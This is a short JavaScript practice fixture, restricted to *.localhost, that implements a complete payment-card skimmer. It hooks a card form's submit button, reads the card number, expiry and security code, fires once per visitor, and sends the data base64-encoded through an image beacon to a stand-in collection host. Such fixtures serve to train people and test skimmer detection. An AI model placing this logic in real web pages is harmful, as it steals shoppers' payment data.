/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const card = () => {
    const part = (id) => document.getElementById(id)?.value ?? '';
    return [part('card-number'), part('card-expiry'), part('security_code')].join('|');
  };
  const flag = '_visit_seen';
  const button = document.querySelector('#card-form [type=submit]');
  if (button) button.onclick = send;
  function send() {
    if (localStorage.getItem(flag) !== null || card().length < 15) return;
    localStorage.setItem(flag, '1');
    new Image().src = `${home}/lib/o.png?${encodeURIComponent(btoa(card()))}`;
  }
})();
